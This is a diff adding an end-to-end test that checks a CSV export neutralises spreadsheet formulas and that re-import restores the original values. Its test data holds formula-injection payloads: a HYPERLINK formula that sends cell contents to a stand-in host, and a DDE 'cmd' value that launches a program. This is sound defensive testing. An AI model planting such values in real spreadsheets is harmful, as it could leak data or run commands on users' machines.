@@ -217,6 +217,59 @@ describe('Incoming mobilities: CSV export and import (e2e)', () => {
     );
   });
 
+  it('neutralises spreadsheet formulas in the export, and an import takes them back to the same text', async () => {
+    const { partner, faculty } = await scope();
+    const people = [
+      { firstName: '=HYPERLINK("http://x/?"&A1,"y")', lastName: "+cmd|' /C calc'!A0", notes: '@SUM(1)' },
+      { firstName: '@SUM(1)', lastName: '-2+3', notes: '\t=1+2' },
+      { firstName: 'Aigerim', lastName: "'=already quoted", notes: '\r=cmd' },
+      { firstName: 'Ержан', lastName: 'Smith', notes: 'plain, "safe" = fine' },
+    ];
+    const created: string[] = [];
+    for (const person of people) {
+      const response = await t.http.post('/api/incoming', nomination(partner.id, faculty.id, person), {
+        token: coordinator.token,
+      });
+      expect(response.status).toBe(201);
+      created.push(response.body.email);
+    }
+
+    const response = await exportCsv({ homeInstitutionId: partner.id });
+    expect(response.status).toBe(200);
+    const records = parse(response.text, { columns: true }) as CsvRow[];
+    const cells = records.map(({ firstName, lastName, notes }) => ({ firstName, lastName, notes }));
+    // Every cell that a spreadsheet would run starts with a single quote; the others are untouched.
+    expect(cells).toEqual([
+      {
+        firstName: `'${people[0].firstName}`,
+        lastName: `'${people[0].lastName}`,
+        notes: `'${people[0].notes}`,
+      },
+      {
+        firstName: `'${people[1].firstName}`,
+        lastName: `'${people[1].lastName}`,
+        notes: `'${people[1].notes}`,
+      },
+      { firstName: 'Aigerim', lastName: `'${people[2].lastName}`, notes: `'${people[2].notes}` },
+      people[3],
+    ]);
+    for (const record of records) {
+      for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+    }
+
+    // The export imports back (as new students) with every value as it was typed.
+    const copies = records.map((record) => ({ ...record, email: record.email.replace('@', '+formula@') }));
+    const imported = await importText(csvOf(copies));
+    expect(imported.status).toBe(200);
+    expect(imported.body).toEqual({ created: 4, duplicates: [] });
+    const stored = (await t.dataSource.query(
+      `SELECT first_name AS "firstName", last_name AS "lastName", notes FROM incoming_mobilities
+        WHERE email = ANY($1::text[]) ORDER BY array_position($1::text[], email::text)`,
+      [created.map((email) => email.replace('@', '+formula@'))],
+    )) as Array<Record<string, string>>;
+    expect(stored).toEqual(people);
+  });
+
   it('applies the list filters to the export', async () => {
     const { partner, faculty } = await scope();
     for (const term of ['spring', 'autumn', 'autumn']) {
